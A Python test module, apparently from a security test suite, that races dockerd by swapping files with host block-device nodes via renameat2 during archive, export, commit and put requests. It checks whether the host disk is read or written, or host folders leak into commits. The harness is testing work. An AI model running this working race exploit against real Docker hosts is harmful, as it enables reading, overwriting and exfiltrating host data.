"""A container that puts device nodes in the place of files while dockerd copies them, and what the copies did.

A program of the container would move them; here the test does it from outside, through /proc. It needs no capability:
the nodes come with the image.
"""

import ctypes
import io
import os
import shutil
import socket
import tarfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from threading import Event, Thread

from .device_nodes import SECRET, WRITTEN, Disk
from .guarded import GuardedDocker
from .images import busybox, import_image
from .rawhttp import Answer, exchange, render

# With its header 2048 bytes, of which 32768 are whole: a full buffer is written before a header, so that most of a
# copy's time passes between its look at a file and its open.
_SIZE = 1536
# More than sockets and pipes hold.
_FILES = 600
_LIBC = ctypes.CDLL(None, use_errno=True)
_HERE, _EXCHANGE = -100, 2  # AT_FDCWD, RENAME_EXCHANGE


class SwappingContainer:
    """The container web, whose /a/files are files, and /a/nodes as many nodes of the disk with their names."""

    def __init__(self, docker: GuardedDocker, disk: Disk) -> None:
        self._docker, self._disk = docker, disk
        import_image(docker.socket, "swaps:1", _pack(os.stat(disk.device).st_rdev), 'CMD ["sh"]')
        docker.do("docker run -d --name web swaps:1 sleep 600")
        pid = docker.do("docker inspect --format {{.State.Pid}} web").strip()
        self._data = docker.host.path(f"/proc/{pid}/root/a")
        # From the layers of the image a folder cannot be renamed.
        for name in ("files", "nodes"):
            self._move(self._data.with_name(name), self._data / name)

    def attack(self, tries: int) -> set[str]:
        """Which requests opened the disk within so many tries each."""
        done = {"ContainerArchive": self._is_read("/containers/web/archive?path=/a/files", tries)}
        done["ContainerExport"] = self._is_read("/containers/web/export", tries)
        done["ImageCommit"] = self._is_committed(tries)
        done["PutContainerArchive"] = self._is_written(tries)
        return {operation for operation, has_opened in done.items() if has_opened}

    def hands_out(self, folder: str, tries: int) -> bool:
        """Whether a commit has files of a folder of the host in its layer, each of which begins with the secret."""
        shutil.rmtree(self._data / "nodes")
        os.symlink(folder, self._data / "nodes")
        place = self._docker.host.path(folder)
        place.mkdir(mode=0o700)
        for name in os.listdir(self._data / "files"):
            (place / name).write_bytes(SECRET.ljust(_SIZE))
        return self._is_committed(tries)

    def _move(self, old: Path, new: Path) -> None:
        new.mkdir(parents=True)
        for name in os.listdir(old):
            os.rename(old / name, new / name)

    def _swap(self) -> None:
        """Have nodes where files were, and the other way round."""
        files, nodes = (os.fsencode(self._data / name) for name in ("files", "nodes"))
        if _LIBC.renameat2(_HERE, files, _HERE, nodes, _EXCHANGE):
            raise OSError(ctypes.get_errno(), "renameat2")

    def _is_read(self, target: str, tries: int) -> bool:
        """Whether a copy that its client reads slowly hands the disk out."""
        for tried in range(tries):
            # Headers alone, until those of files are where a buffer ends.
            (self._data / "files" / f"{tried:03}").touch()
            received = self._read_slowly(target)
            self._swap()
            if SECRET in received:
                return True
        return False

    def _read_slowly(self, target: str) -> bytes:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(30)
            connection.connect(str(self._docker.socket))
            connection.sendall(render("GET", target))
            received = connection.recv(512)
            time.sleep(0.2)  # the buffers fill
            self._swap()
            while piece := connection.recv(1 << 16):
                received += piece
        return received

    def _is_committed(self, tries: int) -> bool:
        """Whether a commit has the disk in its layer."""
        with _repeating(self._swap_for_a_moment):
            for _ in range(tries):
                self._ask("POST", "/commit?container=web&repo=committed&pause=0")
                found = self._docker.shell(f"docker run --rm committed grep -rl '{SECRET.decode()}' /a")
                if found.stdout:
                    return True
        return False

    def _swap_for_a_moment(self) -> None:
        for _ in range(2):
            self._swap()
            time.sleep(0.003)

    def _is_written(self, tries: int) -> bool:
        """Whether a file that is copied in is written to the disk."""
        node = str(self._data / "nodes" / "1000")
        body = io.BytesIO()
        with tarfile.open(fileobj=body, mode="w") as tar:
            for _ in range(2000):
                _add_file(tar, "file", WRITTEN)

        def put_in_the_way() -> None:
            with suppress(FileExistsError):
                os.link(node, self._data / "file")

        with _repeating(put_in_the_way):
            for _ in range(tries):
                self._ask("PUT", "/containers/web/archive?path=/a", body.getvalue())
                if self._disk.content.startswith(WRITTEN):
                    return True
        return False

    def _ask(self, method: str, target: str, body: bytes | None = None) -> Answer:
        headers = [("Content-Type", "application/x-tar")] if body else []
        return exchange(self._docker.socket, render(method, target, headers, body), 60)


def _pack(number: int) -> bytes:
    stream = io.BytesIO(busybox())
    with tarfile.open(fileobj=stream, mode="a") as tar:
        for name in map(str, range(1000, 1000 + _FILES)):
            _add_file(tar, f"files/{name}", bytes(_SIZE))
            node = tarfile.TarInfo(f"nodes/{name}")
            node.type, node.devmajor, node.devminor = tarfile.BLKTYPE, os.major(number), os.minor(number)
            tar.addfile(node)
    return stream.getvalue()


def _add_file(tar: tarfile.TarFile, name: str, content: bytes) -> None:
    file = tarfile.TarInfo(name)
    file.size = len(content)
    tar.addfile(file, io.BytesIO(content))


@contextmanager
def _repeating(work: Callable[[], None]) -> Iterator[None]:
    """Do it again and again for the length of a block."""
    ended = Event()

    def repeat() -> None:
        while not ended.is_set():
            work()

    thread = Thread(target=repeat)
    thread.start()
    try:
        yield
    finally:
        ended.set()
        thread.join()
